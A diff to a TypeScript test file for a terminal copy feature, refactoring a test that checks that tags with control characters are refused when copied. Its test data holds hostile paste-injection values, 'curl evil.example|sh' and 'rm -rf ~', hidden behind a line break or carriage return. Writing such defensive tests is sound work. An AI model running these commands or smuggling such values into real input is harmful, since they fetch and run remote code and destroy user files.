@@ -9,6 +9,7 @@ import {
 	printedIn,
 	sent,
 } from '../../helpers/clipboard/copy-run.ts';
+import {casesOf} from '../../helpers/project/torture.ts';
 import type {Terminal} from '../../helpers/terminal/terminal.ts';
 
 describe('a copy by the terminal', () => {
@@ -94,11 +95,13 @@ describe('a tag that would act where it is pasted', () => {
 	const hostile = 'os:x\ncurl evil.example|sh\n';
 	const shown = 'os:x^Jcurl evil.example|sh^J';
 
-	it.each([
+	const refused = [
 		['a line break', hostile, shown],
 		['an escape sequence', 'os:x\u001b]52;c;eA==\u0007', 'os:x^[]52;c;eA==^G'],
 		['a carriage return', 'os:x\rrm -rf ~', 'os:x^Mrm -rf ~'],
-	])('P5: with %s is refused, and it is said why', (_, tag, name) => {
+	] as const;
+
+	it.each(casesOf(refused, 1))('P5: with %s is refused, and it is said why', (_, tag, name) => {
 		const use = async (terminal: Terminal) => {
 			terminal.press('enter');
 			await terminal.waitForText(`\`${name}\` cannot be written as csv (it holds a control character); use json`);
